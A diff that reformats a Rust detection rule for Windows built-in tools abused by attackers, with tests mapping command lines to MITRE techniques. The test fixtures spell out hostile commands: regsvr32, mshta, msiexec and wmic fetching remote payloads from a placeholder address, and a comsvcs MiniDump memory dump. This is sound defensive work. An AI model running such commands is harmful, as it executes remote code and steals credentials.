@@ -120,10 +120,7 @@ impl Signal for Lol01 {
             let mut reasons = circumstances(row, writable);
             let soon = connections.between(row.ts(), row.ts() + (NETWORK_S * 1e6) as i64);
             if let Some(c) = soon.iter().find(|c| is_own(*c, row)) {
-                let address = c
-                    .ip(network::DST_IP)
-                    .map(|a| ip::display(&a))
-                    .unwrap_or_default();
+                let address = c.ip(network::DST_IP).map(|a| ip::display(&a)).unwrap_or_default();
                 reasons.push(format!("it connected to {address}"));
                 hit.add_row(c);
             }
@@ -143,14 +140,9 @@ impl Signal for Lol01 {
 }
 
 /// The tool of a start by either of its names, how it is used, and whether its arguments name a writable path.
-pub(super) fn used(
-    row: Row<'_>,
-    purpose: Purpose,
-) -> Option<(String, &'static Use, Option<&'static str>)> {
+pub(super) fn used(row: Row<'_>, purpose: Purpose) -> Option<(String, &'static Use, Option<&'static str>)> {
     let (image, original) = names(row);
-    let tool = [image, original]
-        .into_iter()
-        .find(|n| lolbins::is_known(n))?;
+    let tool = [image, original].into_iter().find(|n| lolbins::is_known(n))?;
     let line = row.text(t::CMDLINE)?;
     let writable = writable_argument(&tool, line);
     let found = lolbins::find(&tool, line, purpose, writable.is_some())?;
@@ -168,11 +160,7 @@ fn writable_argument(tool: &str, line: &str) -> Option<&'static str> {
     let library = arguments.by_ref().find(|a| !a.starts_with(['/', '-']))?;
     let library = library.split(',').next().unwrap_or_default();
     let panel = |a: &String| a.to_ascii_lowercase().contains(".cpl");
-    paths::user_writable(library).or_else(|| {
-        arguments
-            .filter(panel)
-            .find_map(|a| paths::user_writable(&a))
-    })
+    paths::user_writable(library).or_else(|| arguments.filter(panel).find_map(|a| paths::user_writable(&a)))
 }
 
 /// Builds by an IDE, a build server or the compiler itself are ordinary.
@@ -217,12 +205,9 @@ fn circumstances(row: Row<'_>, writable: Option<&'static str>) -> Vec<String> {
 
 /// Whether an outgoing connection to the internet belongs to a start.
 fn is_own(connection: Row<'_>, row: Row<'_>) -> bool {
-    let outside = connection
-        .ip(network::DST_IP)
-        .is_some_and(|a| !ip::is_internal(&a))
+    let outside = connection.ip(network::DST_IP).is_some_and(|a| !ip::is_internal(&a))
         && connection.str(network::DIRECTION) != "in";
-    let by_guid = row.text(t::PROC_GUID).is_some()
-        && row.id(t::PROC_GUID) == connection.id(network::PROC_GUID);
+    let by_guid = row.text(t::PROC_GUID).is_some() && row.id(t::PROC_GUID) == connection.id(network::PROC_GUID);
     let by_pid = row.int(t::PID).is_some() && row.int(t::PID) == connection.int(network::PID);
     outside && (by_guid || by_pid)
 }
@@ -242,64 +227,34 @@ mod tests {
     #[test]
     fn tools_that_run_code_of_others_are_told_by_technique() {
         for (line, expected) in [
-            (
-                "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
-                "T1218.010",
-            ),
-            (
-                "rundll32 javascript:\"..\\mshtml,RunHTMLApplication\"",
-                "T1218.011",
-            ),
+            ("regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll", "T1218.010"),
+            ("rundll32 javascript:\"..\\mshtml,RunHTMLApplication\"", "T1218.011"),
             ("rundll32.exe", "T1218.011"),
-            (
-                r"rundll32 C:\Users\a\AppData\Local\Temp\x.dll,Start",
-                "T1218.011",
-            ),
+            (r"rundll32 C:\Users\a\AppData\Local\Temp\x.dll,Start", "T1218.011"),
             (
                 r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\x.dmp full",
                 "T1003.001",
             ),
             ("msiexec /q /i http://192.0.2.1/a.msi", "T1218.007"),
             ("mshta http://192.0.2.1/a.hta", "T1218.005"),
-            (
-                r"msbuild C:\Users\a\AppData\Local\Temp\x.csproj",
-                "T1127.001",
-            ),
+            (r"msbuild C:\Users\a\AppData\Local\Temp\x.csproj", "T1127.001"),
             ("wmic process list /format:http://192.0.2.1/a.xsl", "T1220"),
             ("forfiles /p c:\\windows /m notepad.exe /c calc", "T1202"),
         ] {
-            assert_eq!(
-                technique(line, "cmd.exe").as_deref(),
-                Some(expected),
-                "{line}"
-            );
+            assert_eq!(technique(line, "cmd.exe").as_deref(), Some(expected), "{line}");
         }
-        let found = hits_of(
-            &Lol01,
-            "mshta.exe",
-            "winword.exe",
-            "mshta http://192.0.2.1/a.hta",
-        );
+        let found = hits_of(&Lol01, "mshta.exe", "winword.exe", "mshta http://192.0.2.1/a.hta");
         assert_eq!(found[0].level, Level::High);
     }
 
     #[test]
     fn ordinary_uses_are_quiet() {
         for (line, parent) in [
-            (
-                "rundll32 shell32.dll,Control_RunDLL desk.cpl",
-                "explorer.exe",
-            ),
-            (
-                "rundll32 printui.dll,PrintUIEntry /in /n \\\\print\\p1",
-                "cmd.exe",
-            ),
+            ("rundll32 shell32.dll,Control_RunDLL desk.cpl", "explorer.exe"),
+            ("rundll32 printui.dll,PrintUIEntry /in /n \\\\print\\p1", "cmd.exe"),
             ("msbuild a.sln", "devenv.exe"),
             (r"regsvr32 /s C:\Program Files\v\a.dll", "msiexec.exe"),
-            (
-                "msiexec /i {90160000-008C-0000-1000-0000000FF1CE} /qn",
-                "ccmexec.exe",
-            ),
+            ("msiexec /i {90160000-008C-0000-1000-0000000FF1CE} /qn", "ccmexec.exe"),
             ("wmic os get caption /format:list", "cmd.exe"),
         ] {
             assert_eq!(technique(line, parent), None, "{line}");
